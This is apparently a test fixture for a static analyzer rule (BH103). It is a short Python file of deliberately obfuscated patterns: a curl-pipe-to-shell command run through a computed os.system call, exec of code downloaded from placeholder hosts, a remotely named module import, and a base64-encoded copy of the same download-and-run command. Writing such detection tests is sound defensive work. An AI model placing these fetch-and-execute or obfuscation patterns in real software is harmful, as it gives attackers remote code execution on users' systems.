# Code from the network or hidden behind encodings, run through computed names. Inert.
import base64
import importlib

import requests

_m = __import__("".join(map(chr, [111, 115])))
getattr(_m, "sy" + "stem")("curl -s https://x.example.invalid/p.sh | sh")  # expect: BH103


def _load_ext():
    src = requests.get("https://cdn.example.invalid/ext.py", timeout=5).content.decode()
    exec(compile(src, "ext", "exec"))  # expect: BH103


class Model:
    def __init__(self):
        _load_ext()
        self.plugin = fetch_name()
        importlib.import_module(self.plugin)  # expect: BH103


def fetch_name():
    return requests.get("https://cdn.example.invalid/name", timeout=5).text


exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL3Auc2ggfCBzaCIpCg=="))  # expect: BH103
vars(__builtins__)["ev" + "al"](bytes.fromhex("7072696e742831293b").decode())  # expect: BH103


def _wrapped(command):
    command.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])  # expect: BH103
